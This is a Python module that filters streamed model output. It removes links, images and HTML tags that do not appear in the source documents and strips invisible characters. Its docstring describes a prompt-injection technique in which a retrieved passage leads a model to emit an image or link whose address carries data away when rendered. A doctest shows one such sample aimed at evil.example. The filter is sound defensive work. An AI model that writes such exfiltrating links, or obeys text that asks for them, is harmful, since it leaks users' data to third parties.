"""Takes out of a generated text what would be a link, an image or markup wherever the text is shown.

A passage may try to make a model write an image or a link whose address carries text away as soon as it is shown. So an
address that does not stand in the sources becomes "{link removed}", Markdown that would make a link or an image is
broken up by a space, and so is the beginning of an HTML tag. What stands in the sources exactly so is kept.
Control characters and invisible ones go, except line breaks, tabs and the joiners that Persian and emoji need.

    >>> "".join(without_links(["See ![x](https://", "evil.example/?q=1) and <b>."], []))
    'See ![x] ({link removed}) and < b>.'
    >>> "".join(without_links(["See https://a.example."], ["The page is https://a.example, of course."]))
    'See https://a.example.'
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from functools import lru_cache

__all__ = ["REMOVED", "without_links"]

REMOVED = "{link removed}"
_HELD = 4096  # characters that are kept back at most until it is clear what they are

_URL = re.compile(
    r"""(?:(?<![a-z])(?:https?|ftps?|file|wss?))?:[/\\]{2}[^\s<>"']*"""
    r"""|(?<![a-z])(?:www\.|(?:javascript|vbscript|mailto|tel):|data:[\w.+-]+/)[^\s<>"']+""",
    re.IGNORECASE,
)
_LINK = re.compile(r"\](?:\([^\s()]*[\s)]?|:\s{0,9}\S{0,200})")  # [text](address) and [text]: address
_TAG = re.compile(r"<(?=[a-zA-Z/!?])[^<>]*>?")
_FOUND = re.compile(f"(?P<url>{_URL.pattern})|(?P<link>{_LINK.pattern})|(?P<tag>{_TAG.pattern})", re.IGNORECASE)
# What is open at the end of a text, so that more of it may come.
_OPEN = re.compile(
    r"""(?:(?:(?<![a-z])(?:https?|ftps?|file|wss?))?:[/\\]{2}|(?<![a-z])(?:www\.|(?:javascript|vbscript|mailto|tel|data):))"""
    r"""[^\s<>"']*$|\](?:\(\S*|:\s*\S*)?$|<(?:[a-zA-Z/!?][^<>]*)?$""",
    re.IGNORECASE,
)
_STARTS = (
    *(f"{scheme}://" for scheme in ("http", "https", "ftp", "ftps", "file", "ws", "wss")),
    *(f"{scheme}:" for scheme in ("javascript", "vbscript", "mailto", "tel", "data")),
    *(f"{scheme}:\\\\" for scheme in ("http", "https", "ftp", "ftps", "file", "ws", "wss")),
    "www.",
    "://",
    ":\\\\",
)
_LONGEST = max(map(len, _STARTS))


def without_links(pieces: Iterable[str], sources: Sequence[str]) -> Iterator[str]:
    """The pieces of a text without links, images and tags that are not in the `sources`.

    The text is the same however it is cut into pieces. A piece that ends in what may be the beginning of a link is
    kept back until that is clear.
    """
    held = before = ""
    for piece in pieces:
        held += _visible(piece)
        end = _settled(before + held) - len(before)
        if end > 0:
            yield _clean(before, held[:end], sources)
            before, held = held[end - 1], held[end:]
        elif len(held) > _HELD:  # no address that a source has is so long
            yield f"{_clean(before, held, sources)} "
            before, held = " ", ""
    if held:
        yield _clean(before, held, sources)


def _visible(text: str) -> str:
    return text if text.isascii() and text.isprintable() else "".join(map(_shown, text))


@lru_cache(maxsize=4096)
def _shown(character: str) -> str:
    if character in "\n\t\u200c\u200d":
        return character
    if character.isspace():
        return character if character.isprintable() or unicodedata.category(character) == "Zs" else " "
    return "" if unicodedata.category(character) in ("Cc", "Cf") else character


def _settled(text: str) -> int:
    """How many characters of the text stay what they are whatever follows."""
    match = _OPEN.search(text, max(0, len(text) - _HELD))
    end = min(match.start() if match else len(text), _beginning(text))
    if end < len(text):
        # What is open may lie inside of something else, and that again.
        around = [each.span() for pattern in (_URL, _LINK, _TAG) for each in pattern.finditer(text)]
        for start, stop in sorted(around, reverse=True):
            if start < end < stop:
                end = start
    return end


def _beginning(text: str) -> int:
    """Where the text ends in what may become the beginning of an address, or its length."""
    tail = text[-_LONGEST:].lower()
    for length in range(len(tail), 0, -1):
        start = tail[-length:]
        letters_before = start[0].isalpha() and text[: len(text) - length][-1:].isalpha()
        if not letters_before and any(one.startswith(start) for one in _STARTS):
            return len(text) - length
    return len(text)


def _clean(before: str, text: str, sources: Sequence[str]) -> str:
    """`text` after the character `before`, with what is not in the sources taken out."""
    whole, parts, done = before + text, [], len(before)
    place = len(before)
    while match := _FOUND.search(whole, place):
        place, new = _checked(match, sources)
        parts += [whole[done : match.start()], new]
        done = place
    return "".join([*parts, whole[done:]])


def _checked(match: re.Match[str], sources: Sequence[str]) -> tuple[int, str]:
    """Up to where a match is dealt with, and what stands there instead."""
    if match["url"]:
        address = _address(match[0])
        kept = address in _addresses(tuple(sources))
        return match.start() + len(address), address if kept else REMOVED
    whole = match[0][-1] in ">) \n\t" or match[0][1] == ":"
    kept = whole and any(match[0] in source for source in sources)
    if match["tag"]:
        return match.start() + 1, "<" if kept else "< "
    return match.start() + 1, "]" if kept else "] "


def _address(found: str) -> str:
    """Without the punctuation that follows it."""
    return found.rstrip(".,;:!?)]}*_`|") or found


@lru_cache(maxsize=16)
def _addresses(sources: tuple[str, ...]) -> frozenset[str]:
    return frozenset(_address(match[0]) for source in sources for match in _URL.finditer(source))
